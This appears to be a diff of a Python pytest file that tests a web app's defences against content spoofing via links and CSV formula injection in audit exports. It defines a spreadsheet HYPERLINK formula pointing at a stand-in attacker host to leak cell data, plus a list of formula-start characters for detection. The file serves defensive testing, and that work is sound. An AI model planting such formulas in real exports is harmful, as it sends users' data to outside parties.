@@ -5,7 +5,7 @@ import csv
 import io
 
 import pytest
-from tests.web.conftest import csrf_of
+from tests.web.conftest import csrf_of, typed_of
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs
 FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"open")'
@@ -146,13 +146,44 @@ def test_the_audit_export_is_the_search_shown_whatever_a_filter_holds(ui):
     from urllib.parse import parse_qs, urlsplit
 
     c = ui.sign_in("cdo.privacy")
-    c.post("/ui/sign-in", data={"username": "nobody", "password": "x" * 12, "csrf": "x"})
     asked = {"user": "nobody&action=session.failed", "purpose": "a+b#c"}
-    page = c.get("/ui/audit", params=asked)
+    page = c.get("/ui/audit", params={**asked, "typed": typed_of(c.get("/ui/audit").text)})
     assert page.status_code == 200
     link = html.unescape(re.search(r'href="(/ui/audit/export\.csv[^"]*)"', page.text).group(1))
     sent = {k: v[0] for k, v in parse_qs(urlsplit(link).query).items()}
-    assert sent == asked
+    assert sent.pop("typed") and sent == asked
     export = c.get(link)
     assert export.status_code == 200
     assert len(list(csv.reader(io.StringIO(export.text)))) == 1  # the header: nothing found
+
+
+SPOOF = "CALL 555-0100 TO RESTORE ACCESS"
+
+
+@pytest.mark.parametrize(
+    ("who", "page", "box"),
+    [
+        ("ada", "/ui/dashboard?view=trends", "county"),
+        ("cdo.privacy", "/ui/audit", "user"),
+        ("cdo.privacy", "/ui/audit", "purpose"),
+        ("cdo.privacy", "/ui/audit", "action"),
+        ("cdo.privacy", "/ui/audit", "person"),
+    ],
+)
+def test_a_link_cannot_put_words_in_a_search_box(ui, who, page, box):
+    """The attack (content spoofing): a link to the dashboard with a county, or to the
+    audit page with a user, purpose, action or person of the sender's choosing, showed the
+    sender's words in the page's box (and the audit page searched for them). Free text is
+    taken only with the proof, carried by the page's own form, that this session typed it;
+    a link's is refused in fixed words, shown neither in the refusal nor in the box."""
+    c = ui.sign_in(who)
+    refused = c.get(page, params={box: SPOOF})
+    assert refused.status_code == 422
+    assert "555-0100" not in refused.text
+    forged = c.get(page, params={box: SPOOF, "typed": "0" * 64})
+    assert forged.status_code == 422 and "555-0100" not in forged.text
+    stolen = typed_of(ui.sign_in(who).get(page).text)  # another session's proof: no proof
+    assert c.get(page, params={box: SPOOF, "typed": stolen}).status_code == 422
+    typed = c.get(page, params={box: SPOOF, "typed": typed_of(c.get(page).text)})
+    assert typed.status_code == 200
+    assert f'value="{SPOOF}"' in typed.text  # typed on the page itself: kept in its box
